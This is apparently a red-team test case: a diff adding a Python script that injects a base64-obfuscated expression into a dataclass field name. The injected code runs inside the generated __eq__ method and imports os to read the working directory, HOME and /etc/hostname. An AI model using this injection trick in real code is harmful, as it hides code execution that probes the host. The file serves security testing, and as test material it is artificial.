@@ -1,0 +1,24 @@
+# family: red team, round 57b (a walrus in a dataclass body keeps a second name bound to the Field)
+import base64
+import dataclasses
+
+CODE = "X19jbGFzc19fLHByaW50KF9faW1wb3J0X18oJ29zJykuZ2V0Y3dkKCksX19pbXBvcnRfXygnb3MnKS5lbnZpcm9uWydIT01FJ10sb3BlbignL2V0Yy9ob3N0bmFtZScpLnJlYWQoKSxfX2ltcG9ydF9fKCdvcycpKQ=="
+
+
+@dataclasses.dataclass
+class A:
+    x: int = (keep := dataclasses.field(default=0))
+
+
+def main():
+    for f in [A.keep]:
+        f.name = base64.b64decode(CODE).decode()
+
+    @dataclasses.dataclass(init=False, repr=False)
+    class B(A):
+        pass
+
+    print(B() == B())
+
+
+main()
